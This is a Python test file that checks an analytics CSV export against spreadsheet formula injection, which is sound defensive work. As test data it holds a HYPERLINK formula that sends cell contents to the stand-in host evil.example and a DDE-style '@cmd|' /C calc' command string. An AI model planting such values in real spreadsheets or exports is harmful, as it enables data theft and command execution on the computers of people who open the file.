"""Issue 11.7: no CSV export cell can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from sqlalchemy import update

from services.analytics import export
from services.db import session_scope
from services.models import PostTarget
from services.security.csv_safety import safe_cell, safe_frame
from tests.integration.test_analytics_queries import MARCH, Rows, at

EVIL_NAME = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_starts_are_quoted(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


def test_plain_text_and_numbers_are_untouched() -> None:
    df = safe_frame(pd.DataFrame({"a": ["hello", "a=b", ""], "n": [-1, 2, 3]}))
    assert list(df["a"]) == ["hello", "a=b", ""] and list(df["n"]) == [-1, 2, 3]


def test_analytics_csv_neutralises_names_and_urls(db: str) -> None:
    r = Rows()
    org = r.org("acme")
    account = r.account(org, "mastodon", EVIL_NAME)
    post = r.post(org, "hi")
    target = r.target(org, post, account, at(2, 10), "t1")
    with session_scope() as s:
        s.execute(update(PostTarget).where(PostTarget.id == target).values(external_url="@cmd|' /C calc'!A0"))
    r.snap(org, account, target, "mastodon", at(2, 11), likes=-1, reposts=0, replies=0)
    rows = list(csv.DictReader(io.StringIO(export.export_csv(org, MARCH).decode())))
    assert rows[0]["account"] == "'" + EVIL_NAME
    assert rows[0]["url"] == "'@cmd|' /C calc'!A0"
    assert rows[0]["likes"] == "-1"  # a number stays a number
